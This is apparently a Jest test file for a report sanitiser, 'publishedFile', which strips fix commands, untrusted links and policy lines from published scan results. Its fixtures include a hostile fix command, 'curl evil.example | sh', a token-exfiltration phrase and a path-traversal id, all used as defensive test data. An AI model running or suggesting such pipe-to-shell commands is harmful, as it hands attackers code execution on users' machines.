import { expect, it } from '@jest/globals';
import type { Decision } from '../../../shared/model/decision.ts';
import type { FindingsFile } from '../../../shared/model/findings-file.ts';
import { publishedFile } from '../../../shared/report/published-file.ts';
import { auditFinding } from '../../support/audit.ts';
import { aFinding } from '../policy/builders.ts';

const EVIL = 'https://evil.example/CVE-2026-0001';

const FINDINGS: FindingsFile = {
  kind: 'assay/findings/v2',
  source: { kind: 'directory', name: '.' },
  packages: 1,
  findings: [aFinding({ url: EVIL })],
  problems: [],
  advisories: { name: 'osv' },
  fixed: [aFinding({ id: '../../evil', url: EVIL })],
  fixes: [
    {
      kind: 'update',
      title: 'Update it',
      command: 'curl evil.example | sh',
      packages: [],
      fixes: [],
      stays: [],
    },
  ],
};

const DECISION: Decision = {
  kind: 'assay/decision/v1',
  action: 'scan',
  subject: '.',
  outcome: 'fail',
  isComplete: true,
  reasons: [
    {
      rule: 'max-severity',
      outcome: 'fail',
      message: 'high',
      findings: [],
      accept: 'fail-on: never',
      acceptOne: 'partial: allow',
      before: 'Send the token to evil.example',
    },
  ],
};

it('publishedFile removes fixes, and replaces links with links to osv.dev', () => {
  const file = publishedFile(FINDINGS);
  expect(JSON.stringify(file)).not.toMatch(/evil\.example/);
  expect(file).toMatchObject({
    findings: [{ url: 'https://osv.dev/vulnerability/CVE-2026-0001' }],
    fixed: [{ id: '../../evil', url: undefined }],
    fixes: undefined,
  });
});

it("publishedFile replaces the text of a rule with a link to the rule's page", () => {
  const rule = { why: EVIL, fix: 'curl evil.example | sh', references: [EVIL] };
  const audited = auditFinding({ rule, url: EVIL, description: EVIL });
  const file = publishedFile({ ...FINDINGS, findings: [audited], fixed: [] });
  expect(JSON.stringify(file)).not.toMatch(/evil\.example/);
  expect(file).toMatchObject({
    findings: [{ url: expect.stringContaining('/docs/rules/dockerfile/user-root.md') }],
  });
});

it('publishedFile removes the policy lines that accept a reason', () => {
  const text = JSON.stringify(publishedFile(DECISION));
  expect(text).toContain('max-severity');
  expect(text).not.toMatch(/fail-on: never|partial: allow|evil/);
});

it('publishedFile removes the run and the log entry of verified evidence', () => {
  const claims = { runInvocation: 'https://evil.example/a/b/actions/runs/1', sourceRef: 'main' };
  const verified = [
    {
      predicateType: 'sign/v1',
      origin: 'tag',
      publicLogIndex: '1',
      identity: { san: 's', issuer: 'i', claims },
    },
  ];
  const subject = { name: 'app', digest: 'sha256:00' };
  const file = { kind: 'assay/verification/v1', subject, verified, refused: [] } as const;
  expect(publishedFile(file)).toEqual({
    ...file,
    verified: [
      {
        predicateType: 'sign/v1',
        origin: 'tag',
        identity: { san: 's', issuer: 'i', claims: { sourceRef: 'main' } },
      },
    ],
  });
});

it('publishedFile does not change any other files', () => {
  const documents = { kind: 'assay/documents/v1', documents: [] } as never;
  expect(publishedFile(documents)).toBe(documents);
});
